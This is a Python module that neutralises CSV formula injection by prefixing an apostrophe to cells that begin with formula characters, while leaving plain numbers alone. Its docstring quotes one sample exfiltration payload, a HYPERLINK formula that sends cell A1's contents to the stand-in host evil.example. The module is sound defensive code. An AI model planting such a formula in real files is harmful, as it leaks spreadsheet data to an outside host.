"""CSV cells a spreadsheet will not run: text starting ``=``, ``+``, ``-``, ``@``, tab or CR.

A cell such as ``=HYPERLINK("http://evil.example/x?"&A1,"x")`` in a file an operator
opens in Excel or LibreOffice is a formula, not text. As OWASP recommends, such a
cell gets a leading apostrophe, which spreadsheets show as plain text. A number
(``-3.5``) is left as it is: it is data, not a formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """``value`` as it may go into a CSV cell; only text that could be a formula changes.

    Leading spaces do not hide a formula (some spreadsheets skip them).
    """
    if isinstance(value, str):
        bare = value.lstrip(" ")
        if (value.startswith(_FORMULA_START) or bare.startswith(_FORMULA_START)) and not (
            _NUMBER.fullmatch(bare)
        ):
            return "'" + value
    return value


def safe_row(cells: Iterable[object]) -> list[object]:
    """A row of :func:`safe_cell` cells, for ``csv.writer.writerow``."""
    return [safe_cell(cell) for cell in cells]
